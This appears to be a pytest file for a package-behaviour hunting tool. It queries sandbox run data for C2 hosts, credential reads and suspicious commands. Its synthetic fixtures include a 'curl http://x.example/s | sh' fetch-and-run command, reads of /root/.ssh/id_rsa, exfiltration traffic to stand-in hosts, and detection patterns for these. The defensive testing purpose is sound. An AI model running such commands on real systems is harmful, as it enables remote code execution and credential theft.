"""`osptrack hunt`: views over run folders, batch outputs and datasets; canned hunts; the cache."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from osptrack.errors import BadInput
from osptrack.hunt import cache as hunt_cache
from osptrack.hunt import runfolder
from osptrack.hunt.engine import CANNED, HuntOptions, connect, query
from osptrack.hunt.schema import TABLES
from osptrack.labels.table import LABEL_SCHEMA
from synthetic_runs import dns_flow, make_run, tcp_flow

OSPTRACK = [sys.executable, "-m", "osptrack.cli"]
EVIL = "c2.evil-hunt.example"


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*OSPTRACK, *args], capture_output=True, text=True, timeout=120)


def _empty_labels(path: Path) -> Path:
    pq.write_table(pa.Table.from_pylist([], schema=LABEL_SCHEMA), path)
    return path


@pytest.fixture
def mixed(tmp_path: Path) -> dict[str, Path]:
    """A lone run folder, a batch output with two runs, and a dataset built from two more runs."""
    lone = make_run(tmp_path / "lone", "lone-pkg", dns={"install": [EVIL, "pypi.org"]})
    batch = tmp_path / "batch"
    make_run(batch / "pypi" / "batch-evil" / "1.0", "batch-evil", dns={"import": [EVIL]})
    make_run(batch / "pypi" / "batch-clean" / "1.0", "batch-clean", dns={"install": ["pypi.org"]})
    (batch / "manifest.csv").write_text("timestamp,ecosystem,name,version\n")
    src = tmp_path / "for-dataset"
    make_run(src / "ds-evil", "ds-evil", dns={"install": ["files." + EVIL]})
    make_run(src / "ds-clean", "ds-clean", dns={"install": ["other.example"]})
    from osptrack.dataset.build import BuildOptions, build

    build(
        [src], BuildOptions(labels=_empty_labels(tmp_path / "labels.parquet"), out=tmp_path / "ds", workers=1)
    )
    return {"lone": lone, "batch": batch, "dataset": tmp_path / "ds", "cache": tmp_path / "cache"}


def _con(mixed: dict[str, Path], cache: bool = True):  # type: ignore[no-untyped-def]
    paths = [mixed["lone"], mixed["batch"], mixed["dataset"]]
    return connect(paths, HuntOptions(cache_dir=mixed["cache"] if cache else None))


@pytest.mark.parametrize("cache", [True, False])
def test_join_dns_and_runs_by_hostname_on_mixed_inputs(mixed: dict[str, Path], cache: bool) -> None:
    con = _con(mixed, cache)
    res = query(
        con,
        "SELECT r.name, r.source, r.batch IS NOT NULL AS in_batch, d.phase FROM dns d JOIN runs r USING (run_id) "
        f"WHERE d.hostname = '{EVIL}' OR d.hostname LIKE '%.{EVIL}' ORDER BY r.name",
    )
    assert res.rows == [
        ("batch-evil", "run", True, "import"),
        ("ds-evil", "dataset", False, "install"),
        ("lone-pkg", "run", False, "install"),
    ]
    # Every run once in `runs`, whatever its input kind.
    names = [r[0] for r in query(con, "SELECT name FROM runs ORDER BY name").rows]
    assert names == ["batch-clean", "batch-evil", "ds-clean", "ds-evil", "lone-pkg"]


def test_views_have_the_documented_columns(mixed: dict[str, Path]) -> None:
    con = _con(mixed)
    for table, cols in TABLES.items():
        got = [d[0] for d in con.execute(f"SELECT * FROM {table} LIMIT 0").description]
        assert got == [c.name for c in cols], table
    doc = (Path(__file__).resolve().parents[2] / "docs" / "hunting.md").read_text()
    for table, cols in TABLES.items():
        assert f"### `{table}`" in doc
        for c in cols:
            assert f"| `{c.name}` |" in doc, (table, c.name)


def test_canned_ioc_host_ip_and_hash(tmp_path: Path) -> None:
    payload = b"POST /collect HTTP/1.1\r\n\r\nsecret"
    make_run(
        tmp_path / "runs" / "a",
        "exfil-a",
        flows=[dns_flow(EVIL), tcp_flow(EVIL, dst="198.18.0.9", port=8080, payload=payload)],
        sockets={"install": [("198.18.0.9", 8080, [EVIL])]},
        sha256="ab" * 32,
    )
    make_run(tmp_path / "runs" / "b", "clean-b", flows=[tcp_flow("pypi.org")])
    con = connect([tmp_path / "runs"], HuntOptions(cache_dir=tmp_path / "cache"))
    by_host = query(con, CANNED["ioc"], [EVIL.upper()])
    assert {r[1] for r in by_host.rows} == {"exfil-a"}
    assert {r[4] for r in by_host.rows} == {"flow:dns", "flow:tcp", "socket"}
    assert {r[1] for r in query(con, CANNED["ioc"], ["198.18.0.9"]).rows} == {"exfil-a"}
    assert [r[4] for r in query(con, CANNED["ioc"], ["ab" * 32]).rows] == ["archive"]
    digest = hashlib.sha256(payload).hexdigest()
    assert [r[4] for r in query(con, CANNED["ioc"], [digest]).rows] == ["flow:tcp"]
    assert query(con, CANNED["ioc"], ["nothing.example"]).rows == []


def test_canned_reads_and_runs_command(tmp_path: Path) -> None:
    make_run(
        tmp_path / "a",
        "thief",
        files={"install": [("/root/.ssh/id_rsa", "r"), ("/root/.bashrc", "w")]},
        commands={"install": [["sh", "-c", "curl http://x.example/s | sh"]]},
    )
    make_run(
        tmp_path / "b",
        "writer",
        files={"install": [("/root/.ssh/id_rsa", "w")]},
        commands={"install": [["python3", "-m", "pip", "install", "."]]},
    )
    con = connect([tmp_path / "a", tmp_path / "b"], HuntOptions(cache_dir=None))
    reads = query(con, CANNED["reads"], ["*/.ssh/*"])
    assert [(r[1], r[4]) for r in reads.rows] == [("thief", "/root/.ssh/id_rsa")]  # a write is not a read
    cmds = query(con, CANNED["runs_command"], [r"curl .*\| *sh"])
    assert [r[1] for r in cmds.rows] == ["thief"]


def test_findings_and_honeytokens_views(tmp_path: Path) -> None:
    verdict = {
        "level": "malicious",
        "score": 9.5,
        "findings": [
            {
                "rule": "honeytoken-exfiltrated",
                "title": "AWS key sent out",
                "severity": "critical",
                "phase": "install",
                "honeytoken": {"kind": "aws_secret_access_key"},
                "evidence": {"flows": [{"dst": "198.18.0.9"}]},
            },
            # osptrack.verdict's shape: the honeytoken sits on an evidence item.
            {
                "rule": "bait-read-then-connect",
                "title": "read a bait, then connected",
                "severity": "high",
                "phase": "install",
                "source": "rules",
                "evidence": [
                    {
                        "type": "event",
                        "summary": "read /root/.aws/credentials",
                        "honeytoken": "aws_secret_access_key",
                    }
                ],
            },
        ],
    }
    make_run(
        tmp_path / "v",
        "judged",
        verdict=verdict,
        exfiltration=[{"kind": "aws_secret_access_key", "phase": "install"}],
    )
    make_run(tmp_path / "old", "before-verdicts")  # no verdict key: an older run
    con = connect([tmp_path], HuntOptions(cache_dir=None))
    rows = query(
        con,
        "SELECT r.name, f.rule, f.severity, f.honeytoken, json_extract_string(f.evidence, '$.flows[0].dst') "
        "FROM findings f JOIN runs r USING (run_id) ORDER BY f.rule DESC",
    ).rows
    assert rows == [
        ("judged", "honeytoken-exfiltrated", "critical", "aws_secret_access_key", "198.18.0.9"),
        ("judged", "bait-read-then-connect", "high", "aws_secret_access_key", None),
    ]
    assert query(con, "SELECT source FROM findings ORDER BY rule").rows == [("rules",), (None,)]
    runs = dict(query(con, "SELECT name, verdict FROM runs").rows)
    assert runs == {"judged": "malicious", "before-verdicts": None}
    tokens = query(
        con, "SELECT r.name, h.exfiltrated FROM honeytokens h JOIN runs r USING (run_id) ORDER BY 1"
    ).rows
    assert tokens == [("before-verdicts", False), ("judged", True)]


def test_cache_is_reused_and_invalidated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    a = make_run(tmp_path / "runs" / "a", "one", dns={"install": ["first.example"]})
    opts = HuntOptions(cache_dir=tmp_path / "cache")
    assert query(connect([tmp_path / "runs"], opts), "SELECT hostname FROM dns").rows == [("first.example",)]
    calls: list[Path] = []
    real = runfolder.parse_run

    def counting(folder: Path, cols, batch=None):  # type: ignore[no-untyped-def]
        calls.append(folder)
        real(folder, cols, batch)

    monkeypatch.setattr(hunt_cache, "parse_run", counting)
    assert query(connect([tmp_path / "runs"], opts), "SELECT hostname FROM dns").rows == [("first.example",)]
    assert calls == []  # warm: nothing re-parsed
    make_run(a, "one", dns={"install": ["second-name-longer.example"]})
    assert query(connect([tmp_path / "runs"], opts), "SELECT hostname FROM dns").rows == [
        ("second-name-longer.example",)
    ]
    assert calls == [a]
    assert not list((tmp_path / "runs").rglob("*.parquet"))  # nothing written into the inputs


def test_cache_inside_inputs_is_refused(tmp_path: Path) -> None:
    make_run(tmp_path / "runs" / "a", "one")
    with pytest.raises(BadInput, match="inside the input"):
        connect([tmp_path / "runs"], HuntOptions(cache_dir=tmp_path / "runs" / "cache"))


def test_cli_json_csv_and_bad_input(mixed: dict[str, Path]) -> None:
    base = [str(mixed["lone"]), str(mixed["batch"]), str(mixed["dataset"]), "--cache", str(mixed["cache"])]
    out = cli("hunt", *base, "--sql", "SELECT name, version FROM runs ORDER BY name", "--format", "json")
    assert out.returncode == 0, out.stderr
    rows = json.loads(out.stdout)
    assert rows[0] == {"name": "batch-clean", "version": "1.0.0"} and len(rows) == 5
    out = cli("hunt", *base, "--ioc", EVIL, "--format", "csv")
    assert out.returncode == 0, out.stderr
    lines = out.stdout.strip().splitlines()
    assert lines[0].startswith("ecosystem,name,version,phase,matched,detail")
    assert sorted(line.split(",")[1] for line in lines[1:]) == ["batch-evil", "ds-evil", "lone-pkg"]
    for args, message in [
        ([*base, "--sql", "SELEC nonsense"], "SQL error"),
        ([*base, "--sql", "SELECT * FROM no_such_view"], "SQL error"),
        ([str(mixed["lone"].parent / "missing"), "--sql", "SELECT 1"], "no such file or folder"),
        ([*base], "exactly one of"),
        ([*base, "--runs-command", "(unclosed"], "SQL error"),
        ([*base, "--sql", "SELECT 1", "--format", "xml"], "--format"),
    ]:
        res = cli("hunt", *args)
        assert res.returncode == 2, (args, res.stdout, res.stderr)
        assert message in res.stderr and len(res.stderr.strip().splitlines()) == 1, res.stderr


def test_a_folder_without_runs_is_bad_input(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(BadInput, match="no run folders"):
        connect([tmp_path / "empty"], HuntOptions(cache_dir=None))
    (tmp_path / "x.parquet").write_bytes(b"not parquet")
    with pytest.raises(BadInput, match="not a Parquet file"):
        connect([tmp_path / "x.parquet"], HuntOptions(cache_dir=None))
    broken = make_run(tmp_path / "broken", "b")
    (broken / "events.jsonl").write_text("{not json\n")
    with pytest.raises(BadInput, match="events.jsonl:1"):
        connect([broken], HuntOptions(cache_dir=None))
